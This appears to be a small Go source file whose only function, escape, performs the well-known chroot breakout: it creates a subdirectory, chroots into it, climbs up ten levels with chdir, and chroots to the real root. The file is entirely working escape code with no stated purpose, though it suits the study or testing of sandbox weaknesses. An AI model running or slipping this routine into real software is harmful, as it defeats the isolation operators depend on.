//go:build linux

package main

import (
	"os"

	"golang.org/x/sys/unix"
)

// Ten levels are thought to be enough for anybody.
func escape() error {
	if err := os.Mkdir("x", 0o700); err != nil {
		return err
	}
	if err := unix.Chroot("x"); err != nil {
		return err
	}
	for range 10 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return unix.Chroot(".")
}
